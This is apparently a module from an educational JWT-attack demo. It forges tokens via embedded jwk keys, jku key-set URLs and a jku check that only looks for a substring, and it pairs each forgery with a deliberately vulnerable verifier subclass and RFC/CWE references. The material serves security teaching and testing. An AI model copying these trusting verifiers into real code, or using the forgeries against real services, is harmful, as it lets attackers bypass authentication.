"""`jwk` and `jku`: the token brings the key, or says where to fetch it.

The verifier pins the algorithm.  That does not help, because the key is
the forger's own.  Source: RFC 7515 sections 4.1.2 and 4.1.3, RFC 8725
section 3.10.
"""

import base64
import json
from typing import Any
from urllib.request import urlopen

import jwt

from demo.attacks.base import Attack, Attacker
from demo.attacks.forging import by_key, own_key, signed_by, told
from demo.attacks.key_confusion import jwk_of
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.errors import BadSignature
from demo.harness import Client
from demo.keys import Key
from demo.schemes import JWT

FIXED = contender("JWT RS256")


def by_jwk(scheme: JWT, jwk: dict[str, Any], token: str) -> dict[str, Any]:
    """Header and payload, verified by this JSON Web Key."""
    return by_key(scheme, jwt.PyJWK(jwk, scheme.key.algorithm).key, token)


def by_jwks(scheme: JWT, url: str, token: str) -> dict[str, Any]:
    """The same, by the first key of the set at this address."""
    return by_jwk(scheme, json.loads(fetched(url))["keys"][0], token)


def fetched(url: str) -> bytes:
    """What is at an address.  It may be a `data:` URL, which holds its
    own content, so that nothing here leaves the machine."""
    with urlopen(url) as answer:
        return bytes(answer.read())


def data_url(content: bytes, about: str = "application/json") -> str:
    """An address that holds its own content.  Source: RFC 2397."""
    return f"data:{about};base64,{base64.b64encode(content).decode()}"


def key_set(key: Key) -> bytes:
    """Source: RFC 7517 section 5."""
    return json.dumps({"keys": [jwk_of(key)]}).encode()


# The key in the header


class TrustsJwk(JWT):
    """Overrides `decode`: it verifies by the key that the header brings,
    if there is one."""

    def decode(self, token: str) -> dict[str, Any]:
        jwk = told(token, "jwk")
        return by_jwk(self, jwk, token) if jwk else super().decode(token)


TRUSTS_JWK = Flip(
    "where the key is from",
    "the token's jwk",
    overriding(JWT, TrustsJwk, "RS256", "ES256", "EdDSA"),
    tempting="option: jose (npm), EmbeddedJWK",
)


def forge_jwk(attacker: Attacker) -> Client:
    """Mallory signs, and puts her own public key into the header."""
    key = own_key(attacker)
    return signed_by(attacker, key, jwk=jwk_of(key))


EMBEDDED_JWK = Attack(
    id="embedded-jwk",
    name="the key comes with the token",
    claim="A token that brings its own key is verified by that key.",
    family="signature",
    source="RFC 7515 section 4.1.3, CWE-347, CVE-2018-0114",
    forge=forge_jwk,
    fixed=FIXED,
    flip=TRUSTS_JWK,
    chapter="forge-the-token",
    releases=("node_jose_jwk_header", "authlib_jwk_header"),
)

# The address of the keys in the header


class FollowsJku(JWT):
    """Overrides `decode`: it fetches the keys from where the header says,
    if the header says so."""

    def decode(self, token: str) -> dict[str, Any]:
        url = told(token, "jku")
        return by_jwks(self, url, token) if url else super().decode(token)


FOLLOWS_JKU = Flip(
    "where the key is from", "the token's jku", overriding(JWT, FollowsJku)
)


def forge_jku(attacker: Attacker) -> Client:
    """Mallory signs, and names the address of her own keys."""
    key = own_key(attacker)
    return signed_by(attacker, key, jku=data_url(key_set(key)))


JKU = Attack(
    id="jku",
    name="an address for the keys",
    claim="A token that says where the keys are is verified by those.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918",
    forge=forge_jku,
    fixed=FIXED,
    flip=FOLLOWS_JKU,
    chapter="forge-the-token",
)

# The same, behind a check of the address that looks too briefly


class ChecksJkuLoosely(JWT):
    """Overrides `decode`: it fetches the keys from any address in which
    the bank's name occurs."""

    def decode(self, token: str) -> dict[str, Any]:
        url = told(token, "jku")
        if url and "bank.test" not in url:
            raise BadSignature("not our address")
        return by_jwks(self, url, token) if url else super().decode(token)


CHECKS_JKU_LOOSELY = Flip(
    "where the key is from",
    "the token's jku, if our name is in it",
    overriding(JWT, ChecksJkuLoosely),
)


def forge_jku_with_our_name(attacker: Attacker) -> Client:
    """The bank's name is in the address, where it means nothing."""
    key = own_key(attacker)
    url = data_url(key_set(key), "application/json;at=bank.test")
    return signed_by(attacker, key, jku=url)


JKU_SUBSTRING = Attack(
    id="jku-substring",
    name="an address with the bank's name in it",
    claim="A search for the bank's name in the address stops nobody.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918, CWE-183",
    forge=forge_jku_with_our_name,
    fixed=FIXED,
    flip=CHECKS_JKU_LOOSELY,
    chapter="forge-the-token",
)

ATTACKS = (EMBEDDED_JWK, JKU, JKU_SUBSTRING)
